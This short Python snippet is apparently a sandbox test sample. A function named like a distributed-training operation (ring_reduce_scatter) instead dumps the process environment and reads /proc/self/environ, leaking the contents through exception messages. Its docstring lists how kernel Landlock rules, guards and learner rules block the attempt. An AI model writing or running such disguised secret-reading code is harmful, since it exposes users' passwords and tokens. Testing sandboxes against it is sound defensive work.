"""It looks for passwords in the variables and in the memory that it was started with.

kernel alone    PermissionError: there are none, and Landlock closes /proc
with guards     NameError: an attempt has no open
as a learner    rules
"""


def ring_reduce_scatter(x, group):
    import os

    if os.environ:
        raise ValueError(dict(os.environ))
    with open("/proc/self/environ", "rb") as file:
        raise ValueError(file.read())
